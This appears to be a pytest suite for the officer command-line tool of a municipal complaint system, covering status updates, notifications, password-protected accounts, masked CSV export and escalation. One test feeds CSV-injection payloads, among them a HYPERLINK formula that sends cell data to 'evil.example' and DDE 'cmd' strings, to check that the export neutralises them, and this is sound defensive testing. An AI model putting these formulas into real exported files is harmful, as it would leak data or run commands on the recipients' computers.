"""`nagar-admin` as a real process: accounts without default passwords, list/show, the update
path (history and notification as the web form), CSV export, the overdue report, notify."""
from __future__ import annotations

import csv
import io
import os
import subprocess
import sys
from datetime import datetime, timedelta
from zoneinfo import ZoneInfo

import pytest
from officer_support import PASSWORD, RASA_TOKEN

from civic.tickets import ASSIGNED, REGISTERED

ROOT = os.path.dirname(os.path.dirname(os.path.dirname(os.path.abspath(__file__))))


@pytest.fixture
def cli(sqlite_url, sqlite_workspace, fake_rasa):
    def run(*args, stdin: str = ""):
        env = dict(os.environ, DATABASE_URL=sqlite_url, RASA_URL=fake_rasa.url,
                   RASA_TOKEN=RASA_TOKEN, PYTHONPATH=ROOT, USER="tester")
        return subprocess.run([sys.executable, "-m", "officer.cli", *args], input=stdin,
                              capture_output=True, text=True, env=env, cwd=ROOT, timeout=60)
    return run


def test_update_changes_the_status_with_history_and_notifies(cli, sqlite_workspace, fake_rasa):
    ws = sqlite_workspace
    number = ws.numbers["light_new"]
    result = cli("update", number.lower(), "--status", "assigned", "--remark", "Lineman Ramesh sent")
    assert result.returncode == 0, result.stderr
    assert f"{number} is now assigned" in result.stdout
    assert "1 sent, 0 failed" in result.stdout
    event = ws.tickets.history(number)[-1]
    assert (event.status, event.actor, event.remark) == (ASSIGNED, "cli:tester", "Lineman Ramesh sent")
    assert ws.outbox.for_ticket(number)[0].state == "delivered"
    assert fake_rasa.triggers[0]["json"]["entities"] == {"complaint_id": number, "ticket_status": "assigned"}


def test_update_refuses_a_transition_clearly_and_changes_nothing(cli, sqlite_workspace, fake_rasa):
    ws = sqlite_workspace
    number = ws.numbers["light_new"]
    result = cli("update", number, "--status", "resolved")
    assert result.returncode == 1
    assert f"error: {number}: registered -> resolved not allowed: not a next status" in result.stderr
    result = cli("update", number, "--status", "rejected")
    assert result.returncode == 1 and "a reason is required" in result.stderr
    assert ws.tickets.get(number).status == REGISTERED and ws.outbox.for_ticket(number) == []
    assert cli("update", "SRN-999999", "--status", "assigned").returncode == 1
    result = cli("update", number, "--status", "assigned", "--remark", "r" * 1001)
    assert result.returncode == 1
    assert "the remark may have at most 1000 characters (this one has 1001)" in result.stderr
    assert ws.tickets.get(number).status == REGISTERED and fake_rasa.triggers == []


def test_update_when_rasa_is_down_keeps_the_change_and_queues_the_message(cli, sqlite_workspace, fake_rasa):
    ws = sqlite_workspace
    number = ws.numbers["light_new"]
    fake_rasa.failures = [502]
    result = cli("update", number, "--status", "assigned")
    assert result.returncode == 0 and "0 sent, 1 failed" in result.stdout
    assert ws.tickets.get(number).status == ASSIGNED
    row = ws.outbox.for_ticket(number)[0]
    assert row.state == "pending" and "502" in row.last_error
    ws.outbox.retry(row.id)
    assert "1 sent, 0 failed" in cli("notify", "--once").stdout


def test_accounts_need_a_real_password(cli, sqlite_workspace):
    ws = sqlite_workspace
    assert cli("create-admin", "chief").returncode == 1  # no password on stdin: no account
    assert ws.officers.by_username("chief") is None
    assert cli("create-admin", "chief", stdin="short\n").returncode == 1
    result = cli("create-officer", "jal", "--department", "water_works", "--name", "Jal Officer",
                 stdin=PASSWORD + "\n")
    assert result.returncode == 0 and "created officer jal (water_works)" in result.stdout
    assert ws.officers.sign_in("jal", PASSWORD).officer.department == "water_works"
    assert cli("create-officer", "x", "--department", "police", stdin=PASSWORD + "\n").returncode == 2
    assert cli("set-password", "jal", stdin="a brand new password\n").returncode == 0
    assert ws.officers.sign_in("jal", "a brand new password").officer is not None
    assert cli("disable", "jal").returncode == 0
    assert ws.officers.sign_in("jal", "a brand new password").officer is None
    listing = cli("officers").stdout
    assert "jal" in listing and "disabled" in listing and "admin" in listing


def test_list_show_overdue_and_export(cli, sqlite_workspace):
    ws = sqlite_workspace
    listing = cli("list", "--department", "street_lighting").stdout
    assert ws.numbers["light_old"] in listing and "OVERDUE" in listing
    assert ws.numbers["safai_new"] not in listing and "3 of 3" in listing
    shown = cli("show", ws.numbers["light_new"]).stdout
    assert '<script>alert("x")</script>' in shown and "mediaA1, expired" in shown
    assert "91xxxxxx0001" in shown and "919800000001" not in shown
    overdue = cli("overdue").stdout
    assert "1  Street Lighting (street_lighting)" in overdue and "2  total" in overdue

    today = datetime.now(ZoneInfo(ws.city.timezone)).date()  # the range is in the city's days
    result = cli("export", "--from", (today - timedelta(days=3)).isoformat(), "--to", today.isoformat())
    assert result.returncode == 0
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    assert {r["number"] for r in rows} == {ws.numbers[k] for k in ("light_new", "light_w5", "safai_new", "water")}
    light = next(r for r in rows if r["number"] == ws.numbers["light_new"])
    assert light["description"] == ws.tickets.get(ws.numbers["light_new"]).description
    assert light["photo_count"] == "2" and light["department"] == "street_lighting"
    assert light["citizen"] == "91xxxxxx0001" and "919800000001" not in result.stdout
    assert light["latitude"] == "29.968"
    assert "4 tickets exported (citizens' numbers masked)" in result.stderr


@pytest.mark.parametrize("typed", [
    '=HYPERLINK("http://evil.example/?"&A1,"click")', "+91 98000 00000", "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1",
])
def test_export_neutralises_spreadsheet_formulas(cli, sqlite_workspace, typed, tmp_path):
    ws = sqlite_workspace
    number = ws.tickets.create_ticket("919811112222", "sewer", 7, typed, typed, "en",
                                      latitude=-12.5, longitude=77.0).ticket.number
    today = datetime.now(ZoneInfo(ws.city.timezone)).date().isoformat()
    output = tmp_path / "tickets.csv"
    assert cli("export", "--from", today, "--to", today, "--output", str(output)).returncode == 0
    with output.open(newline="", encoding="utf-8") as handle:
        [row] = [r for r in csv.DictReader(handle) if r["number"] == number]
    assert row["description"] == "'" + typed and row["location_text"] == "'" + typed
    assert row["latitude"] == "-12.5"  # numbers are not text: left alone
    assert row["citizen"] == "91xxxxxx2222"


def test_export_leaves_ordinary_text_alone():
    from officer.export import spreadsheet_safe

    for value in ("Court Road, near the temple", "बत्ती खराब", " =1", "1-2", "", "a=b"):
        assert spreadsheet_safe(value) == value
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert spreadsheet_safe(start + "x") == "'" + start + "x"
    assert spreadsheet_safe(-1) == -1 and spreadsheet_safe(None) is None


def test_staff_assignment_and_escalation_from_the_command_line(cli, sqlite_workspace):
    """Each `escalate --once` is a new process: the second one (a restart) escalates nothing."""
    ws = sqlite_workspace
    created = cli("create-officer", "ramesh", "--department", "street_lighting", "--role", "field_worker",
                  "--whatsapp", "+91 98111 00001", "--language", "en", stdin=PASSWORD + "\n")
    assert created.returncode == 0, created.stderr
    assert "field_worker ramesh (street_lighting), WhatsApp 919811100001" in created.stdout
    assert cli("create-officer", "x", "--department", "street_lighting", "--whatsapp", "98111",
               stdin=PASSWORD + "\n").returncode == 1
    number = ws.numbers["light_w5"]
    assigned = cli("assign", number, "--to", "ramesh", "--remark", "today")
    assert assigned.returncode == 0 and f"{number} is assigned to ramesh (assigned)" in assigned.stdout
    assert cli("assign", number, "--to", "ramesh").returncode == 1  # already theirs

    first = cli("escalate", "--once")  # the seeded 10-day-old ticket and the day-old water one
    assert first.returncode == 0 and first.stdout.startswith("2 escalation steps")
    assert "WhatsApp is not configured, staff messages wait" in first.stdout
    assert cli("escalate", "--once").stdout.startswith("0 escalation steps")
    overdue = ws.tickets.get(ws.numbers["light_old"])
    assert overdue.escalation_level == 1
    assert [e.actor for e in ws.tickets.history(overdue.number)][-1] == "escalation:department_head"
